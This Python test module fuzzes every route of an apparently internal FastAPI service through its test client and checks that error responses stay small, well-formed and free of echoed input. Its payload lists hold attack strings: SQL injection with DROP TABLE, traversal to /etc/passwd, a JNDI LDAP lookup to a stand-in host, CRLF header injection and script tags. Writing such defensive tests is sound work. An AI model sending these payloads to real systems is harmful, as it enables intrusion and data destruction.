"""X3: naughty strings in every text field, every place of an address and every query of every route there is."""

import json
import re
from collections.abc import Iterator, Mapping
from typing import Any, Final

from fastapi.testclient import TestClient

from chat.request_bounds import UPLOAD_BYTES, UPLOADS
from tests.trust.outcome import Outcome, Tally
from tests.trust.scratch import Scratch
from tests.trust.staffed import staffed

MARK: Final = "zqmark"
BODIES: Final = {
    "lone surrogate": f'"{MARK} \\ud800"', "NUL": f'"{MARK} \\u0000"', "NaN": "NaN", "infinity": "1e999",
    "minus infinity": "-1e999", "a list": f'["{MARK}"]', "an object": f'{{"{MARK}": 1}}', "null": "null",
    "5,000 digits": "9" * 5000, "50,000 characters": f'"{MARK * 8000}"', "20,000 deep": "[" * 20_000,
    "deep objects": '{"a":' * 5000 + "1" + "}" * 5000, "not closed": f'"{MARK}', "right to left": f'"\\u202e{MARK}"',
    "tags": f'"\\udb40\\udc41{MARK}"', "markup": f'"<script>{MARK}</script>"', "SQL": f'"\' OR 1=1; DROP TABLE records;-- {MARK}"',
    "path": f'"../../../../etc/passwd%00{MARK}"', "template": f'"{{{{7*7}}}} ${{jndi:ldap://{MARK}.example}}"',
    "line breaks": f'"{MARK}\\r\\nX-Injected: 1"', "true": "true", "minus one": "-1", "a float": "0.1e-400",
    "combining": '"' + "a" + "\\u0301" * 500 + f'{MARK}"', "zero width": f'"\\u200b\\u2060{MARK}"', "empty": '""',
}  # fmt: skip
PLACES: Final = ("%00" + MARK, "%ED%A0%80", MARK * 60, "%F0%9F%A7%B4" + MARK, "..%2f..%2f" + MARK, MARK + "%0d%0aX-A:b",
                 "%E2%80%AE" + MARK, "'%20OR%201=1--" + MARK, "%3Cscript%3E" + MARK, "%25%30%30", "%FF" + MARK)  # fmt: skip
QUERIES: Final = ("NaN", "1e999", "%00" + MARK, "%ED%A0%80" + MARK, "9" * 4000, "-1", MARK, "true", "%F0%9F%A7%B4",
                  "%E2%80%AE" + MARK, "%FF", "", "%3Cscript%3E" + MARK, "0x10", "1_000", "2026-99-99")  # fmt: skip
Answered = Any  # the test client has a response class of its own
JSON: Final = {"content-type": "application/json"}


def run(amount: int, seed: int, scratch: Scratch) -> Outcome:
    """Every route as staff meet it; `amount` rounds (one is all there is to try)."""
    tally = Tally()
    for number in range(amount):
        with staffed(scratch.part(str(number))) as client:
            attack(client, tally)
    return tally.outcome


def attack(client: TestClient, tally: Tally) -> None:
    """Bodies, places, queries and sizes."""
    described = client.get("/openapi.json").json()
    tally.count("routes", sum(len(about) for about in described["paths"].values()))
    for method, path, about in operations(described):
        address = re.sub(r"\{\w+\}", "review-0000000000000001", path)
        for name, content in _bodies(about, described):
            _tried(tally, client.request(method, address, content=content, headers=JSON), f"{method} {path} {name}")
        for place in PLACES if "{" in path else ():
            address = re.sub(r"\{\w+\}", place, path)
            _tried(tally, client.request(method, address), f"{method} {path} at {place[:20]}")
        for query, value in _queries(about):
            address = re.sub(r"\{\w+\}", "creme-rosee", path)
            got = client.request(method, f"{address}?{query}={value}")
            _tried(tally, got, f"{method} {path}?{query}={value[:20]}")
        if method in ("POST", "PUT", "PATCH"):
            _too_large(tally, client, method, re.sub(r"\{\w+\}", "review-0000000000000001", path), about)


def operations(described: Mapping[str, Any]) -> Iterator[tuple[str, str, Mapping[str, Any]]]:
    """Method, address and description of everything an API describes."""
    for path, about in described["paths"].items():
        for method, operation in about.items():
            if method in ("get", "post", "put", "patch", "delete"):
                yield method.upper(), path, operation


def fault(response: Answered) -> str | None:
    """What is wrong with an answer to something hostile."""
    if response.status_code >= 500 and response.status_code != 503:
        return f"answered {response.status_code}: {response.text[:200]}"
    if response.status_code >= 400:
        if len(response.content) > 4096:
            return f"an error of {len(response.content)} bytes"
        if MARK in response.text:
            return "the error repeats the input"
        if "problem+json" not in response.headers.get("content-type", ""):
            return f"the error is {response.headers.get('content-type')}"
    if "x-injected" in response.headers or "x-a" in response.headers:
        return "a header was injected"
    return None


def _tried(tally: Tally, response: Answered, what: str) -> None:
    found = fault(response)
    tally.count(f"answered {response.status_code // 100}xx")
    tally.check(f"{what}: {found}" if found else None)


def _too_large(tally: Tally, client: TestClient, method: str, address: str, about: Mapping[str, Any]) -> None:
    """Over 64 KiB, over 64 MiB where staff send whole files; a route that needs no body never reads one in pieces."""
    body = json.dumps({"question": "z" * 70_000}).encode()
    size = str(UPLOAD_BYTES + 1 if (method, address) in UPLOADS else len(body))
    announced = client.request(method, address, content=body, headers=JSON | {"content-length": size}).status_code
    tally.check(None if announced == 413 else f"{method} {address}: {size} bytes answered {announced}")
    streamed = client.request(method, address, content=iter([body[:40_000], body[40_000:]]), headers=JSON).status_code
    refused = 400 <= streamed < 500 or (streamed < 300 and "requestBody" not in about)
    tally.check(None if refused else f"{method} {address}: 70 kB in pieces answered {streamed}")


def _bodies(about: Mapping[str, Any], described: Mapping[str, Any]) -> Iterator[tuple[str, bytes]]:
    """Each field of a body in turn holding each naughty value, the others as in the example."""
    content = about.get("requestBody", {}).get("content", {}).get("application/json")
    if content is None:
        return
    for name, value in BODIES.items():
        yield f"all {name}", value.encode()
    fields = _fields(content.get("schema", {}), described)
    for field in fields:
        rest = {name: example for name, example in fields.items() if name != field}
        others = "".join(f", {json.dumps(name)}: {json.dumps(example)}" for name, example in rest.items())
        for name, value in BODIES.items():
            yield f"{field} {name}", f'{{"{field}": {value}{others}}}'.encode()


def _fields(schema: Mapping[str, Any], described: Mapping[str, Any]) -> dict[str, Any]:
    """Names of a body's fields, each with an example; required ones and the first optional few."""
    while "$ref" in schema:
        schema = described["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    for kind in ("anyOf", "oneOf", "allOf"):
        if kind in schema:
            return {name: value for one in schema[kind] for name, value in _fields(one, described).items()}
    return {name: next(iter(about.get("examples", [])), "text") for name, about in schema.get("properties", {}).items()}


def _queries(about: Mapping[str, Any]) -> Iterator[tuple[str, str]]:
    for parameter in about.get("parameters", []):
        if parameter["in"] == "query":
            for value in QUERIES:
                yield parameter["name"], value
